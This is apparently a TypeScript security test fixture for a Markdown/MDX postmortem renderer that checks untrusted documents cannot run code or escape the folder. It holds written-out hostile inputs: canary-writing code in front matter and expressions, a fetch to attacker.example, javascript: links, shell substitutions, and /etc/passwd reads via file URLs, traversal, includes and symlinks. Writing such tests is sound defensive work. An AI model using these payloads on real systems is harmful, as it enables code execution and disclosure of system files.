/** Attacks that try to run something, or to reach out of the folder. The canary must never be touched. */
import { symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { type HostileInput, write } from './input.ts'

/** Code that makes the canary, for each place where code might be read. */
const touch = (canary: string) => `require('node:fs').writeFileSync(${JSON.stringify(canary)}, 'ran')`
const touchModule = (canary: string) =>
  `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(canary)}, 'ran')\nexport default {}\n`

const documents: Readonly<Record<string, (canary: string) => string>> = {
  'front matter in JavaScript': (canary) => `---js\n{ title: (${touch(canary)}, 'a') }\n---\n\nText\n`,
  'front matter in JavaScript, long name': (canary) =>
    `---javascript\nmodule.exports = ${touch(canary)}\n---\n\nText\n`,
  'front matter in CoffeeScript': (canary) => `---coffee\n${touch(canary)}\n---\n\nText\n`,
  'an import': (canary) =>
    `import { writeFileSync } from 'node:fs'\n\n{writeFileSync(${JSON.stringify(canary)}, 'ran')}\n`,
  'an import of a neighbour': () => `import './evil.mjs'\n\nText\n`,
  'an export': (canary) => `export const a = ${touch(canary)}\n\nText\n`,
  'an expression': (canary) => `{${touch(canary)}}\n`,
  'an expression in an attribute': (canary) => `<Evidence id={${touch(canary)}} />\n`,
  'spread attributes': (canary) => `<Evidence {...${touch(canary)}} />\n`,
  'a call in a template': (canary) => `{\`\${${touch(canary)}}\`}\n`,
  'a global': () => `{globalThis.process.exit(3)}\n`,
  'a script': (canary) => `<script>${touch(canary)}</script>\n`,
  'an event handler': () => `<img src="x" onerror="fetch('https://attacker.example')" />\n`,
  'a frame': () => `<iframe src="file:///etc/passwd"></iframe>\n`,
  'a style': () => `<style>@import 'https://attacker.example/a.css';</style>\n`,
  'a link to a script': () =>
    `[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:a)\n`,
  'an image of a local file': () => `![a](file:///etc/passwd) ![b](../../../../etc/passwd)\n`,
  'a shell substitution': (canary) => `$(touch ${canary}) \`touch ${canary}\` ; touch ${canary}\n`,
  'an include': () => `@include ../../../etc/passwd\n\n{{> /etc/passwd }}\n\n<!--#include virtual="/etc/passwd" -->\n`,
  'a diagram with a click': () =>
    '```mermaid\ngraph TD\nclick A call alert(1)\n%%{init: {"securityLevel": "loose"}}%%\n```\n',
}

/** Files beside the documents that some tool might load. */
const neighbours: readonly string[] = [
  'content/afterword.config.ts',
  'content/afterword.config.mjs',
  'content/postmortems/afterword.config.js',
  'content/package.json',
  'content/.remarkrc.js',
  'content/postmortems/index.js',
  'content/postmortems/evil.mjs',
]

/** Every way in, each beside files that run when loaded. */
export const executionInputs: readonly HostileInput[] = [
  ...Object.entries(documents).flatMap(([name, text]) =>
    ['mdx', 'md'].map((extension): HostileInput => ({
      name: `${name} (.${extension})`,
      prepare(folder, canary) {
        write(folder, `content/postmortems/a.${extension}`, text(canary))
        write(folder, 'content/postmortems/evil.mjs', touchModule(canary))
      },
    })),
  ),
  {
    name: 'code beside the documents',
    prepare(folder, canary) {
      write(folder, 'content/postmortems/a.mdx', 'Text\n')
      for (const path of neighbours) write(folder, path, touchModule(canary))
    },
  },
  {
    name: 'a link to a secret',
    posixOnly: true,
    prepare(folder) {
      write(folder, 'content/postmortems/a.mdx', 'Text\n')
      symlinkSync('/etc/passwd', join(folder, 'content/postmortems/passwd.md'))
      symlinkSync('/etc', join(folder, 'content/postmortems/etc'))
    },
  },
]
